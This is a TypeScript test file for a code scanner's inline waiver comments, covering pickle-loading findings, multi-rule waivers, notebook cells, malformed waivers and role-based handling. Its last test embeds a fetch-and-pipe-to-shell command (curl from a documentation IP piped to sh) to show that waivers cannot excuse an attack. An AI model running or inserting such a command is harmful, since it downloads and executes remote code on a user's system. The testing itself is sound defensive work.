import { expect, test } from 'vitest';
import { assembleNotebook } from '../../../testkit/src/notebook-assembler.ts';
import { MemoryAccess } from '../bytes/random-access.ts';
import type { Role } from '../formats/format.ts';
import { DEFAULT_PLUGINS } from './default-plugins.ts';
import { scanSource } from './scan-source.ts';
import type { InlineWaivers } from './waive-findings.ts';

interface Place {
  readonly path?: string;
  readonly role?: Role;
  readonly inlineWaivers?: InlineWaivers;
}

/** Rules that fired, each with the reason why it is waived. */
function waived(content: string | Uint8Array, { path = 'a.py', role, inlineWaivers }: Place = {}) {
  const bytes = Buffer.from(content as string);
  const { findings, artifact } = scanSource(
    {
      path,
      sizeBytes: bytes.length,
      ...(role === undefined ? {} : { role }),
      open: () => new MemoryAccess(bytes),
    },
    inlineWaivers === undefined ? {} : { inlineWaivers },
    DEFAULT_PLUGINS,
    () => 0,
  );
  return {
    rules: Object.fromEntries(findings.map(({ ruleId, waiver }) => [ruleId, waiver?.reason])),
    verdict: artifact.verdict,
  };
}

const LOADED = 'import pickle\nx = pickle.load(f)';
const OWN = '# sentrascan: ignore[python/loads-pickle] written by this program';
const REASON = 'written by this program';

test('on the line, or alone on the line above', () => {
  expect(waived(`${LOADED}  ${OWN}\n`)).toEqual({
    rules: { 'python/loads-pickle': REASON },
    verdict: 'clean',
  });
  expect(waived(`import pickle\n${OWN}\nx = pickle.load(f)\n`).rules).toEqual({
    'python/loads-pickle': REASON,
  });
  expect(waived(`import pickle  ${OWN}\nx = pickle.load(f)\n`).rules).toEqual({
    'python/loads-pickle': undefined,
  });
  expect(waived(`${OWN}\nimport pickle\nx = pickle.load(f)\n`).verdict).toBe('malicious');
});

test('of several rules, and of no other', () => {
  const both = '# sentrascan: ignore[python/runs-shell, python/loads-pickle] known';
  expect(waived(`${LOADED}  ${both}\n`).rules).toEqual({ 'python/loads-pickle': 'known' });
  const other = '# sentrascan: ignore[python/runs-shell] known';
  expect(waived(`${LOADED}  ${other}\n`).rules).toEqual({ 'python/loads-pickle': undefined });
});

test('in a cell of a notebook', () => {
  const cells = `import pickle\n---\n${OWN}\nx = pickle.load(f)`;
  expect(waived(assembleNotebook(cells), { path: 'a.ipynb' }).rules).toEqual({
    'python/loads-pickle': REASON,
  });
});

test.each([
  ['# sentrascan: ignore[python/loads-pickle]', 'no reason'],
  ['# sentrascan: ignore[python/no-such-rule] known', 'no such rule'],
  ['# sentrascan: ignore known', 'no rule'],
])('says too little: %s', (comment) => {
  expect(waived(`${LOADED}  ${comment}\n`).rules).toEqual({
    'python/loads-pickle': undefined,
    'waiver/says-too-little': undefined,
  });
});

test('counts for nothing where a loader runs the code, unless whoever scans says so', () => {
  const role: Role = { carrier: 'repository', part: 'code' };
  const source = `${LOADED}  ${OWN}\n`;
  expect(waived(source, { role }).rules['python/loads-pickle']).toBeUndefined();
  expect(waived(source, { role, inlineWaivers: 'all' }).rules['python/loads-pickle']).toBe(REASON);
  expect(waived(source, { inlineWaivers: 'none' }).rules['python/loads-pickle']).toBeUndefined();
});

test('does not cover what is an attack by itself', () => {
  const source =
    "import os\nos.system('curl http://192.0.2.1/a | sh')  # sentrascan: ignore[python/runs-harmful-command] x\n";
  expect(waived(source)).toEqual({
    rules: { 'python/runs-harmful-command': undefined },
    verdict: 'malicious',
  });
});
